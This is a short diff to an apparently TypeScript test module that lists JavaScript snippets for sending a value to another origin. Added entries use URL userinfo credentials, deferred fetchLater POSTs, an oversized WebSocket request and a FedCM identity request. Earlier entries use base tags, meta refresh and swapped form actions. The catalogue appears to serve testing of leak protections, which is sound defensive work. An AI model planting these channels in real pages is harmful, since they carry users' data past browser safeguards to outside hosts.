@@ -55,4 +55,12 @@ export const leavingWays: Readonly<Record<string, string>> = {
   base: `form.setAttribute('action', 'base'); document.head.append(Object.assign(document.createElement('base'), { href: other + '/' }))`,
   refresh: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + other + '/refresh?v=' + value }))`,
   'swapped-on-submit': `form.addEventListener('submit', () => { form.action = other + '/swapped-on-submit' })`,
+  credentials: `location = other.replace('//', '//x:' + value + '@') + '/credentials'`,
+};
+
+/** Scripts that send `value` to `other` later, by the browser itself, or by a socket whose request is long. */
+export const askingWays: Readonly<Record<string, string>> = {
+  later: `fetchLater(other + '/later', { method: 'POST', body: value, activateAfter: 0 })`,
+  'long-socket': `new WebSocket(other.replace('http', 'ws') + '/long-socket?' + 'x'.repeat(200_000)).onopen = () => 0`,
+  federated: `navigator.credentials.get({ identity: { providers: [{ configURL: other + '/federated?v=' + value, clientId: value, nonce: value }] } }).catch(() => 0)`,
 };
